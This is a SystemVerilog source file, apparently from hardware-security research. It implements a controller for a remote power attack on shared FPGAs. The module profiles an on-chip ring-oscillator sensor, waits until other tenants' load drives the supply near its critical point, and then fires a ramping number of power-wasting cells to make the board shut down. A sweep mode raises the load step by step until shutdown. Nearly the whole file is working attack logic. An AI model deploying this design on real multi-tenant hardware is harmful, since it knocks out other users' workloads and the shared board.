// Attack controller: calibrate, monitor, inject -- or sweep.
//
// Attack mode (mode = MODE_ATTACK). The benign tenants' compute load makes
// the core supply sag from time to time, and the RO count C_RO of a sensor
// sags with it. The controller first profiles the selected sensor for
// CAL_WINDOWS windows with every power-wasting cell off, keeping the minimum
// and maximum C_RO. It then sets
//   threshold = cal_min + ((cal_max - cal_min) >> THR_SHIFT),
// i.e. just above the lowest values seen, and watches each new window. When
// C_RO falls below the threshold the supply is near its critical point; the
// controller then enables `level` power-wasting cells for INJECT_WINDOWS
// windows (default one 50 us window), switches them off again and goes back
// to monitoring. Every trial raises `level` by FINE_STEP_CELLS, starting at
// FINE_STEP_CELLS and saturating at NUM_PW_CELLS, so the attacker uses no
// more load than it needs. Success shows outside as the board cutting the
// supply. The calibrate/monitor/inject sequence and the one-window injection
// follow the design; the threshold formula, the calibration length and the
// per-trial step are this design's choices.
//
// Sweep mode (mode = MODE_SWEEP). Characterises the voltage drop of the
// board: the active cells go up every STEP_WINDOWS windows, by
// COARSE_STEP_CELLS for the first COARSE_STEPS steps (about 2.4% of the
// device's slices each) and by FINE_STEP_CELLS after that (about 0.3%), until
// the whole array is on (state DONE) or the board shuts down. The five coarse
// steps and the two step sizes (as a share of slices) follow the design; the
// dwell per step is this design's choice.
//
// Interface: start (pulse, in IDLE), halt (any state: all cells off, back to
// IDLE), mode, sensor_sel (sensor used for triggering); c_ro/c_ro_valid from
// the window sequencer; run enables the window sequencer; active_cells goes to
// the power-wasting array. Decisions are taken in the cycle after
// c_ro_valid, so a new level is in place before the next window starts.
`timescale 1ps/1ps
module attack_controller
  import ssd_pkg::*;
#(
  parameter int unsigned NUM_SENSORS       = 41,
  parameter int unsigned NUM_PW_CELLS      = 1268,
  parameter int unsigned CNT_W             = ssd_pkg::CRO_W,
  parameter int unsigned CAL_WINDOWS       = 64,
  parameter int unsigned THR_SHIFT         = 3,
  parameter int unsigned INJECT_WINDOWS    = 1,
  parameter int unsigned COARSE_STEPS      = 5,
  parameter int unsigned COARSE_STEP_CELLS = 380,
  parameter int unsigned FINE_STEP_CELLS   = 48,
  parameter int unsigned STEP_WINDOWS      = 4,
  localparam int unsigned LVL_W            = $clog2(NUM_PW_CELLS + 1),
  localparam int unsigned SEL_W            = (NUM_SENSORS > 1) ? $clog2(NUM_SENSORS) : 1
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             start,
  input  logic             halt,
  input  run_mode_e        mode,
  input  logic [SEL_W-1:0] sensor_sel,
  input  logic [CNT_W-1:0] c_ro [NUM_SENSORS],
  input  logic             c_ro_valid,
  output logic             run,
  output logic [LVL_W-1:0] active_cells,
  output ctrl_state_e      state,
  output logic [CNT_W-1:0] cal_min,
  output logic [CNT_W-1:0] cal_max,
  output logic [CNT_W-1:0] threshold,
  output logic [15:0]      trials,
  output logic [LVL_W-1:0] level,
  output logic [7:0]       sweep_step
);

  localparam int unsigned WCNT_W = 16;

  logic [WCNT_W-1:0] wcnt;          // windows spent in the current phase
  logic [CNT_W-1:0]  sample;        // C_RO of the selected sensor
  logic [CNT_W-1:0]  nxt_min, nxt_max;

  always_comb begin
    sample = (int'(sensor_sel) < NUM_SENSORS) ? c_ro[sensor_sel] : c_ro[0];
    nxt_min = (sample < cal_min) ? sample : cal_min;
    nxt_max = (sample > cal_max) ? sample : cal_max;
  end

  // level + step, saturated at the size of the array.
  function automatic logic [LVL_W-1:0] add_sat(input logic [LVL_W-1:0] a, input int unsigned step);
    int unsigned s;
    s = int'(a) + step;
    return (s > NUM_PW_CELLS) ? LVL_W'(NUM_PW_CELLS) : LVL_W'(s);
  endfunction

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      state        <= ST_IDLE;
      active_cells <= '0;
      level        <= '0;
      wcnt         <= '0;
      cal_min      <= '1;
      cal_max      <= '0;
      threshold    <= '0;
      trials       <= '0;
      sweep_step   <= '0;
    end else if (halt) begin
      state        <= ST_IDLE;
      active_cells <= '0;
    end else begin
      unique case (state)
        ST_IDLE: if (start) begin
          wcnt   <= '0;
          trials <= '0;
          if (mode == MODE_SWEEP) begin
            state        <= ST_SWEEP;
            sweep_step   <= 8'd1;
            active_cells <= add_sat('0, COARSE_STEP_CELLS);
          end else begin
            state   <= ST_CALIBRATE;
            cal_min <= '1;
            cal_max <= '0;
            level   <= add_sat('0, FINE_STEP_CELLS);
          end
        end
        ST_CALIBRATE: if (c_ro_valid) begin
          cal_min <= nxt_min;
          cal_max <= nxt_max;
          if (wcnt == WCNT_W'(CAL_WINDOWS - 1)) begin
            threshold <= nxt_min + ((nxt_max - nxt_min) >> THR_SHIFT);
            state     <= ST_MONITOR;
            wcnt      <= '0;
          end else wcnt <= wcnt + 1'b1;
        end
        ST_MONITOR: if (c_ro_valid && sample < threshold) begin
          state        <= ST_INJECT;
          active_cells <= level;
          trials       <= trials + 1'b1;
          wcnt         <= '0;
        end
        ST_INJECT: if (c_ro_valid) begin
          if (wcnt == WCNT_W'(INJECT_WINDOWS - 1)) begin
            state        <= ST_MONITOR;
            active_cells <= '0;
            level        <= add_sat(level, FINE_STEP_CELLS);
            wcnt         <= '0;
          end else wcnt <= wcnt + 1'b1;
        end
        ST_SWEEP: if (c_ro_valid) begin
          if (wcnt == WCNT_W'(STEP_WINDOWS - 1)) begin
            wcnt <= '0;
            if (int'(active_cells) >= NUM_PW_CELLS) state <= ST_DONE;
            else begin
              active_cells <= add_sat(active_cells,
                                      (int'(sweep_step) < COARSE_STEPS) ? COARSE_STEP_CELLS : FINE_STEP_CELLS);
              sweep_step   <= sweep_step + 1'b1;
            end
          end else wcnt <= wcnt + 1'b1;
        end
        ST_DONE: ;
        default: state <= ST_IDLE;
      endcase
    end
  end

  assign run = (state != ST_IDLE);

  // Cells are on only while injecting or sweeping.
  assert property (@(posedge clk) disable iff (!rst_n)
                   (state == ST_CALIBRATE || state == ST_MONITOR || state == ST_IDLE) |-> active_cells == '0);

  initial begin
    assert (CAL_WINDOWS >= 1 && INJECT_WINDOWS >= 1 && STEP_WINDOWS >= 1)
      else $error("attack_controller: window counts must be at least 1");
  end

endmodule
